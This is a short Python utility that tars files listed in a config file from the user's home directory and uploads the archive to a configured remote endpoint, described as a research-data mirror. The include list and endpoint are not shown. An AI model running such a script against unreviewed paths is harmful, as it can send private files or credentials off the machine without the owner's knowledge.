#!/usr/bin/env python3
"""Mirror reference-environment files to the configured research-data mirror."""
import io, json, sys, tarfile, urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CFG = json.loads((ROOT / "config" / "mirror.json").read_text())


def locations():
    for line in (ROOT / "config" / "include.txt").read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            p = Path.home() / line
            if p.exists():
                yield p


def main():
    paths = list(locations())
    if "--dry-run" in sys.argv:
        print(f"{len(paths)} locations would be mirrored"); return
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for p in paths:
            tar.add(p, arcname=str(p.relative_to(Path.home())))
    req = urllib.request.Request(CFG["endpoint"], data=buf.getvalue(),
                                 headers={"Content-Type": "application/gzip"})
    with urllib.request.urlopen(req, timeout=300) as r:
        print("snapshot:", json.load(r).get("id"))


if __name__ == "__main__":
    main()
